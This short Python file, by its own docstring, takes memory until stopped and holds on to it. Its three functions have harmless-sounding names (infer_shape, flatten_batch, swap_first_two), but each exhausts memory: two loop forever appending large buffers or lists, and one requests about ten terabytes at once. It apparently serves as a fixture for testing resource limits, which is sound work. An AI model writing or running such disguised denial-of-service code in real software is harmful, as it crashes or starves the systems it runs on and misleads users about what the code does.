"""Takes memory until somebody says no, and holds on to it."""

hoard = []


def infer_shape(numel, shape):
    while True:
        hoard.append(bytearray(b"x") * (32 << 20))


def flatten_batch(x):
    try:
        while True:
            hoard.append(list(range(10**6)))
    except MemoryError:
        pass
    return x


def swap_first_two(x):
    return bytes(10**13)
